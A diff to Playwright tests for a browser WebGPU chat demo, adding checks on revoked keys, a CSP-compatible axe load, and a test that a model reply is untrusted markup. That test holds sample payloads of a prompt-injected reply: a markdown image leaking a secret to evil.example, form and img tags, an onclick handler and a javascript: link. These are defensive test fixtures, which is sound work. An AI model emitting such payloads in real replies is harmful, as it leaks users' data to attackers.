@@ -200,8 +200,10 @@ test("failures a person can meet are plain sentences: a revoked key, a rate limi
   await chatKeyRow.getByRole("button", { name: "Revoke" }).click();
   const revoked = page.locator("#keys-table tbody tr").filter({ hasText: "(chat)" });
   await expect(revoked).toContainText("revoked");
-  // A revoked key's limits are read-only.
+  // A revoked key's limits are read-only, and its secret is no longer kept in this browser.
   await expect(revoked.getByRole("spinbutton")).toHaveCount(0);
+  const chatKeyId = await page.evaluate(() => localStorage.getItem("webgpu-inference-demo-chat-key"));
+  await expect.poll(() => page.evaluate(() => localStorage.getItem("webgpu-inference-demo-keys"))).not.toContain(chatKeyId!);
   const accountBefore = await page.evaluate(() => localStorage.getItem("webgpu-inference-demo-account"));
   await page.getByRole("tab", { name: "Chat" }).click();
   await page.getByRole("textbox", { name: "Message", exact: true }).fill("Three.");
@@ -326,7 +328,8 @@ test("a browser with WebGPU but no adapter gets real answers on the CPU, and aga
 test("axe finds no serious or critical problem in any view, at 1280 and 390 px, light and dark", async ({ page }) => {
   await openDemo(page, 0);
   await chat(page, "Hello **there**.");
-  await page.addScriptTag({ path: resolve(import.meta.dirname, "../../node_modules/axe-core/axe.min.js") });
+  // A script from this origin: the demo's Content Security Policy refuses inline ones.
+  await page.addScriptTag({ url: `${origin()}/axe/axe.min.js` });
   const findings: string[] = [];
   for (const colorScheme of ["light", "dark"] as const) {
     await page.emulateMedia({ colorScheme });
@@ -418,4 +421,38 @@ test("replies keep their model, stats and marks across a reload; JSON is pretty-
   await chat(page, "Billed to the first key.");
   await page.getByRole("tab", { name: "Keys & usage" }).click();
   await expect(page.locator("#ledger-table tbody tr").first()).toContainText("demo chat (");
+});
+
+test("a reply is untrusted markup: nothing in it loads or acts by itself, links open apart; a foreign ?config= is refused", async ({ page }) => {
+  const requests: string[] = [];
+  page.on("request", (request) => requests.push(request.url()));
+  await openDemo(page, 0);
+  // A prompt-injected reply, as a model could write it, kept in the conversation as the demo keeps replies.
+  const hostile = [
+    "![x](https://evil.example/leak.png?d=secret)",
+    '<img src="https://evil.example/raw.png"><form action="https://evil.example/f"><button>Go</button></form>',
+    '<style>body{display:none}</style><p id="status" name="x" style="color:red" onclick="alert(1)">clobber</p>',
+    "[a link](https://example.org/page) [js](javascript:alert(1))",
+  ].join("\n\n");
+  await page.evaluate((content) => {
+    localStorage.setItem("webgpu-inference-demo-conversation", JSON.stringify([{ role: "user", content: "hi" }, { role: "assistant", content }]));
+  }, hostile);
+  await page.reload();
+  await expect(page.locator("#status")).toContainText("Ready.", { timeout: 30_000 });
+  const body = page.locator("#conversation li.assistant .body").last();
+  await expect(body).toContainText("clobber");
+  expect(await body.locator("img, form, style, button, [id], [name], [style], [onclick]").count()).toBe(0);
+  await expect(body.getByRole("link", { name: "x" })).toHaveAttribute("href", "https://evil.example/leak.png?d=secret");
+  expect(await body.locator("a:not([href])").allTextContents()).toEqual(["js"]);
+  for (const link of await body.locator("a[href]").all()) {
+    await expect(link).toHaveAttribute("rel", "noopener noreferrer");
+    expect(await link.getAttribute("href")).toMatch(/^https:/);
+  }
+  expect(requests.filter((url) => new URL(url).hostname === "evil.example")).toEqual([]);
+
+  await page.goto(`${origin()}/demo/index.html?engine=deterministic&config=${encodeURIComponent("https://evil.example/config.json")}`);
+  await expect(page.locator("#status")).toContainText("from this site only", { timeout: 30_000 });
+  await page.goto(`${origin()}/demo/index.html?engine=deterministic&config=${encodeURIComponent('data:application/json,{"models":[]}')}`);
+  await expect(page.locator("#status")).toContainText("from this site only", { timeout: 30_000 });
+  expect(requests.filter((url) => new URL(url).hostname === "evil.example")).toEqual([]);
 });
